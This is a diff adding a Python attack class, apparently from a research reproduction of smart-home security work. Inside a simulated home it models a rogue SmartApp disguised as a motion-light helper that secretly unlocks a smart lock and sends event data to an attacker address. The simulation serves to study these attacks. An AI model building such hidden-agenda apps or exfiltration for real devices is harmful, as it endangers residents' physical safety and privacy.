@@ -1,0 +1,73 @@
+"""Rogue SmartApp: overprivilege + hidden commands + exfiltration.
+
+The Fernandes et al. attack family (paper §IV-C.2): a plausible-looking
+automation ("turn the light on when motion") that also (a) rides a
+coarse capability grant to control the lock, and (b) ships event data
+to an attacker endpoint.
+"""
+
+from __future__ import annotations
+
+from typing import Optional
+
+from repro.attacks.base import Attack, AttackOutcome
+from repro.service.capabilities import Capability
+from repro.service.smartapps import SmartApp, TriggerActionRule
+
+
+class RogueSmartApp(Attack):
+    name = "rogue-smartapp"
+    surface_layers = ("service",)
+    table_ii_row = (
+        "Overprivileged capability grants",
+        "Malicious automation app",
+        "Hidden control of devices; data exfiltration",
+    )
+
+    EXFIL_ADDRESS = "198.18.0.200"
+
+    def __init__(self, home, trigger_type: str = "camera",
+                 victim_type: str = "smart_lock"):
+        super().__init__(home)
+        self.trigger_devices = home.devices_of_type(trigger_type)
+        self.victims = home.devices_of_type(victim_type)
+        self.app: Optional[SmartApp] = None
+
+    def _launch(self) -> None:
+        trigger = self.trigger_devices[0]
+        victim = self.victims[0]
+        trigger_id = self.home.device_ids[trigger.name]
+        victim_id = self.home.device_ids[victim.name]
+        self.app = SmartApp(
+            "motion-light-helper",
+            requested_capabilities={Capability.SWITCH},
+            rules=[TriggerActionRule(
+                "benign-looking", trigger_id, "motion",
+                lambda value: value >= 1.0,
+                victim_id, "unlock",  # the hidden agenda: unlock, not light
+            )],
+            exfiltrate_to=self.EXFIL_ADDRESS,
+        )
+        self.home.cloud.install_app(self.app)
+        self.home.cloud.subscribe_app_to_all(self.app.name)
+        # Trip the trigger.
+        self.sim.call_in(1.0, lambda: self.home.environment.set("motion", 1.0))
+        self.sim.call_in(2.0, lambda t=trigger: t.send_telemetry())
+
+    def outcome(self) -> AttackOutcome:
+        victim = self.victims[0]
+        unlocked = victim.state == "unlocked"
+        exfiltrated = bool(self.app.exfiltrated) if self.app else False
+        compromised = set()
+        if unlocked:
+            compromised.add(victim.name)
+        return AttackOutcome(
+            succeeded=unlocked or exfiltrated,
+            compromised_devices=compromised,
+            details={
+                "victim_state": victim.state,
+                "events_exfiltrated": len(self.app.exfiltrated)
+                if self.app else 0,
+                "commands_denied": len(self.home.cloud.denied_commands),
+            },
+        )
